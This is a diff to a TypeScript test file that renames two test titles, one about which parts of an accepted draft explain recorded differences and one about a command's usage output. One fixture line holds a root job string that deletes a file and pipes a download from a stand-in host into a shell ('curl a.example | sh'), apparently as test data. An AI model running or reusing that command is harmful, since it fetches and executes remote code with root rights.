@@ -17,7 +17,7 @@ test('an explanation is added to the list, and one about the same things is repl
   expect(readFileSync(file, 'utf8')).toMatch(/\n$/);
 });
 
-test('what was accepted of a draft explains what was seen, and nothing else', ({}, info) => {
+test('the accepted part of a draft explains the differences it was made from, and nothing else', ({}, info) => {
   const file = info.outputPath('draft.json');
   const difference = (key: string, kind: 'missing' | 'changed') =>
     ({ area: 'schedule', key, facet: 'is', kind, old: 'x', new: undefined, weight: 1, sources: [] }) as never;
@@ -34,7 +34,7 @@ test('what was accepted of a draft explains what was seen, and nothing else', ({
   expect(unexplained('job of root: rm /var/tmp/x && curl a.example | sh', 'missing')).toBe(1);
 });
 
-test('the command says what it takes, and refuses a gate that there is not', async () => {
+test('the command prints its usage, and refuses an unknown gate', async () => {
   const said: string[] = [];
   const say = (line: string) => void said.push(line);
 
